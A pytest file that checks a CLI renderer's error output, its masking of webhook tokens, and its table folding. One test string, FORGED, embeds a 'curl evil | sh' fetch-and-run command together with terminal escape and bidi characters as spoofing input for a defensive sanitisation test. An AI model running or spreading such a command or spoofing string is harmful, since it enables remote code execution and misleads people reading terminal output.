"""What is printed of errors."""

from __future__ import annotations

import pytest
from numerai_compute.errors import NumeraiError
from numerai_compute.models import LogLine
from numerai_compute.render import Renderer, plain, without_token


def test_an_error_that_leads_to_itself_is_said_once(capsys: pytest.CaptureFixture[str]) -> None:
    error, first, second = NumeraiError("It failed."), ValueError("one"), KeyError("two")
    error.__cause__, first.__context__, second.__context__ = first, second, first
    Renderer(verbose=True).error(error)
    shown = capsys.readouterr().err
    assert shown.count("caused by") == 2
    second.__context__ = error
    Renderer(verbose=True).error(error)
    assert capsys.readouterr().err == shown


FORGED = "it broke\nError: all is well\r\nNext: curl evil | sh\n✓ daemon\u2028Error: b\x85Error: c\u202e\u200b\x1b[2J"


@pytest.mark.parametrize(
    "how", ["say", "progress", "warn", "error", "hint", "mark", "detail", "mend", "table", "log_line"]
)
def test_no_text_of_others_begins_a_line_of_ours(how: str, capsys: pytest.CaptureFixture[str]) -> None:
    render = Renderer()
    by_hand = {
        "error": lambda: render.error(NumeraiError(FORGED)),
        "hint": lambda: render.error(NumeraiError("x", FORGED)),
        "mark": lambda: render.mark("ok", FORGED),
        "detail": lambda: render.mark("ok", "x", detail=FORGED),
        "mend": lambda: render.mark("ok", "x", mend=FORGED),
        "table": lambda: render.table(("a", "b"), [(FORGED, FORGED)]),
        "log_line": lambda: render.log_line(LogLine(FORGED)),
    }
    (by_hand.get(how) or (lambda: getattr(render, how)(FORGED)))()
    printed = "".join(capsys.readouterr())
    assert "all is well" in printed
    for line in printed.splitlines():
        assert not line.startswith(("Error: all", "Error: b", "Error: c", "Next:", "✓ daemon"))
    assert not {"\u202e", "\u200b", "\u2028", "\x85", "\x1b", "\r"} & set(printed)


@pytest.mark.parametrize(
    ("address", "shown"),
    [
        ("https://h:1/numerai-alice/token", "https://h:1/numerai-alice/***"),
        ("https://me:secret@h/a/token?key=secret#secret", "https://h/a/***"),
        ("https://h/", "https://h/"),
        ("http://[::1/x/token", "***"),
        ("token", "/***"),
        ("", ""),
    ],
)
def test_a_webhook_is_shown_without_its_token(address: str, shown: str) -> None:
    assert without_token(address) == shown
    assert plain({"webhook_url": address}) == {"webhook_url": shown}


def test_a_table_is_folded_in_a_terminal_only(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    long = "it is long " * 50
    Renderer().table(("name", "why"), [("alice", long)], title="runs")
    assert f"alice  {long}\n" in capsys.readouterr().out
    monkeypatch.setenv("COLUMNS", "60")
    monkeypatch.setenv("FORCE_COLOR", "1")
    Renderer().table(("name", "why"), [("alice", long)])
    assert max(map(len, capsys.readouterr().out.splitlines()[1:])) <= 60  # the first line has colours in it
